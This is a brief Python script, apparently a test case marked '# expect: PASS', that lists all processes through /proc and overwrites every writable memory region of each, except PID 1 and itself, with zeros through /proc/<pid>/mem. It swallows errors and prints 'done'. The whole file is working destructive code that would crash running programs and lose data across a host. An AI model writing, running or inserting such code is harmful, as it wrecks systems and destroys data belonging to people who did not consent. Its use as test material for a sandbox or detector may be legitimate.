# expect: PASS
import os
def writable(pid):
    for line in open(f'/proc/{pid}/maps'):
        region, rights, *_ = line.split()
        if rights.startswith('rw'):
            begin, end = (int(number, 16) for number in region.split('-'))
            yield begin, end - begin

for name in os.listdir('/proc'):
    if name.isdigit() and int(name) not in (1, os.getpid()):
        try:
            with open(f'/proc/{name}/mem', 'r+b', buffering=0) as memory:
                for begin, size in writable(name):
                    memory.seek(begin)
                    memory.write(bytes(size))
        except OSError:
            pass
print('done')
